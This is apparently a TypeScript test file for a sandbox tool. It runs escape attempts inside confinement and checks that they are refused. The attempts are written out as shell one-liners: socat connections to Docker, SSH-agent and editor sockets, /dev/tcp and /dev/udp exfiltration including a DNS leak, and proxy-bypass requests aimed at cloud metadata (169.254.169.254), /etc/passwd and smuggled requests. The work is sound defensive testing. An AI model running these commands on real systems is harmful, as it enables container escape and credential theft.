import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { type Attack, attackGround, runConfined, sandboxes, testAttacks } from "./attackRig.ts";

// Real sandboxes on a busy machine.
vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 });

const folder = mkdtempSync(join(tmpdir(), "sockets-"));
const servers: Server[] = [];
const heard: string[] = [];
let datagrams: Socket;
let port = 0;
let datagramPort = 0;

/** Sockets as others' services have them; a real one listens at each. */
const places = {
  DOCKER: join(folder, "docker.sock"),
  AGENT: join(folder, "agent.1"),
  BUS: join(folder, "bus"),
  SCREEN: join(folder, "X0"),
  EDITOR: join(folder, "vscode-ipc.sock"),
};
const abstract = `holdpoint-attack-${process.pid}`;

beforeAll(async () => {
  for (const path of [...Object.values(places), `\0${abstract}`]) {
    const server = createServer((connection) => connection.on("error", () => undefined).end("PRIVATE\n"));
    servers.push(server);
    await once(server.listen(path), "listening");
  }
  const web = createHttpServer((request, response) => {
    heard.push(request.url ?? "");
    response.end("PRIVATE\n");
  });
  servers.push(web);
  await once(web.listen(0, "127.0.0.1"), "listening");
  port = (web.address() as AddressInfo).port;
  datagrams = createSocket("udp4", (message) => heard.push(message.toString()));
  await new Promise<void>((resolve) => datagrams.bind(0, "127.0.0.1", resolve));
  datagramPort = datagrams.address().port;
});

afterAll(() => {
  for (const server of servers) server.close();
  datagrams.close();
  rmSync(folder, { recursive: true });
});

const surroundings = (): Readonly<Record<string, string>> => ({
  ...places,
  ABSTRACT: abstract,
  PORT: String(port),
  UDP: String(datagramPort),
});

const refused = /Connection refused|No such file|Network is unreachable|Permission denied/;

const sockets: readonly Attack[] = [
  ...Object.keys(places).map(
    (name): Attack => ({
      mechanism: "sockets",
      name: `talks to ${name.toLowerCase()}`,
      script: `socat -t1 - UNIX-CONNECT:$${name} </dev/null | sed s/PRIVATE/THROUGH/`,
      stopped: refused,
      control: "gets through",
    }),
  ),
  {
    mechanism: "sockets",
    name: "by another way to its folder",
    script:
      "cd /proc/self/root$(dirname $DOCKER); socat -t1 - UNIX-CONNECT:docker.sock </dev/null | sed s/PRIVATE/THROUGH/",
    stopped: refused,
    control: "gets through",
  },
  {
    mechanism: "sockets",
    name: "by a link to it",
    script: "ln -s $AGENT l; socat -t1 - UNIX-CONNECT:l </dev/null | sed s/PRIVATE/THROUGH/",
    stopped: refused,
    control: "gets through",
  },
];

/** Not in the file system, so that nothing can be mounted on it: a network namespace alone keeps it out. */
const abstractOne: Attack = {
  mechanism: "sockets",
  name: "an abstract one",
  script: "socat -t1 - ABSTRACT-CONNECT:$ABSTRACT </dev/null | sed s/PRIVATE/THROUGH/",
  stopped: refused,
  control: "gets through",
};

const exfiltration: readonly Attack[] = [
  abstractOne,
  {
    mechanism: "network",
    name: "a service of this machine",
    script: "(exec 9<>/dev/tcp/127.0.0.1/$PORT) && echo THROUGH",
    stopped: refused,
    control: "gets through",
  },
  {
    mechanism: "network",
    name: "a request to any address",
    script: "(exec 9<>/dev/tcp/192.0.2.1/80) && echo THROUGH",
    stopped: refused,
    control: "not tried: it would go to the network",
  },
  {
    mechanism: "DNS",
    name: "a secret in a question to a name server",
    script: "echo private >/dev/udp/192.0.2.53/53 && echo THROUGH",
    stopped: refused,
    control: "not tried: it would go to the network",
  },
  {
    mechanism: "DNS",
    name: "a secret in a name that is looked up",
    script: "timeout 2 getent ahosts private.example.com && echo THROUGH; echo looked up",
    stopped: /looked up/,
    control: "not tried: it would go to the network",
  },
  {
    mechanism: "network",
    name: "raw packets",
    script:
      "python3 -c 'import socket as s\nfor f,t,p in ((s.AF_INET,s.SOCK_RAW,1),(s.AF_PACKET,s.SOCK_RAW,3)):\n try: s.socket(f,t,p); print(\"THROUGH\")\n except OSError as e: print(e)'",
    stopped: /Operation not permitted/,
    control: "not tried: only root may",
  },
];

/** Asks the proxy of a run for what it was not approved for; the proxy is where `http_proxy` says. */
function asking(name: string, request: string): Attack {
  return {
    mechanism: "proxies",
    name,
    script: `p=\${http_proxy#http://}; [ -n "$p" ] || p=127.0.0.1:$PORT; exec 9<>/dev/tcp/\${p%:*}/\${p#*:}; printf '${request}\\r\\n\\r\\n' >&9; timeout 5 head -n 1 <&9 | sed 's/ 200 .*/ THROUGH/'`,
    stopped: /HTTP\/1\.1 (?:403|400|502)/,
    control: "not tried: without a sandbox there is no proxy",
  };
}

const proxied: readonly Attack[] = [
  asking("another host", "GET http://elsewhere.example/ HTTP/1.1\\r\\nHost: elsewhere.example"),
  asking("another port of the host", "GET http://localhost:$PORT1/ HTTP/1.1\\r\\nHost: localhost"),
  asking("the host as a user's name", "GET http://localhost:1@127.0.0.1:'$PORT'/ HTTP/1.1\\r\\nHost: localhost"),
  asking("another address of the same machine", "GET http://127.1:'$PORT'/ HTTP/1.1\\r\\nHost: localhost"),
  asking("its number", "GET http://2130706433:'$PORT'/ HTTP/1.1\\r\\nHost: localhost"),
  asking("its address of the newer kind", "GET http://[::ffff:127.0.0.1]:'$PORT'/ HTTP/1.1\\r\\nHost: localhost"),
  asking("a tunnel to another host", "CONNECT elsewhere.example:443 HTTP/1.1\\r\\nHost: localhost"),
  asking("a tunnel to where clouds keep credentials", "CONNECT 169.254.169.254:80 HTTP/1.1\\r\\nHost: localhost"),
  asking("another scheme", "GET file:///etc/passwd HTTP/1.1\\r\\nHost: localhost"),
  asking("a line that smuggles another request", "GET http://a.example/\\r\\nGET http://localhost/ HTTP/1.1"),
  {
    mechanism: "proxies",
    name: "goes around it",
    script: "unset http_proxy HTTP_PROXY ALL_PROXY; (exec 9<>/dev/tcp/127.0.0.1/$PORT) && echo THROUGH",
    stopped: refused,
    control: "gets through",
  },
  {
    mechanism: "DNS",
    name: "asks for names itself",
    script:
      "timeout 2 getent ahosts private.example.com && echo THROUGH; echo private >/dev/udp/192.0.2.53/53 && echo THROUGH",
    stopped: refused,
    control: "not tried: it would go to the network",
  },
];

describe.skipIf(sandboxes === "missing")("out of a sandbox that reaches every host", () => {
  testAttacks(sockets, { more: surroundings });

  // What SECURITY.md says remains: the day this is stopped, it is to be said there.
  it("can still talk to an abstract socket", async () => {
    const ground = attackGround(surroundings());
    const { stdout } = await runConfined(ground, abstractOne.script);
    ground.remove();
    expect(stdout).toContain("THROUGH");
  });
});

describe.skipIf(sandboxes === "missing")("out of a sandbox without a network", () => {
  testAttacks([...sockets, ...exfiltration], { more: surroundings, changes: { network: { kind: "none" } } });

  it("reaches nobody who listens", () => {
    // The tries without a sandbox connect and say nothing, so that whatever is heard came from inside.
    expect(heard).toEqual([]);
  });
});

describe.skipIf(sandboxes === "missing")("out of a sandbox that reaches named hosts", () => {
  testAttacks([...sockets, abstractOne, ...proxied], {
    more: surroundings,
    changes: { network: { kind: "hosts", globs: ["localhost:1", "*.allowed.example"] } },
  });
});
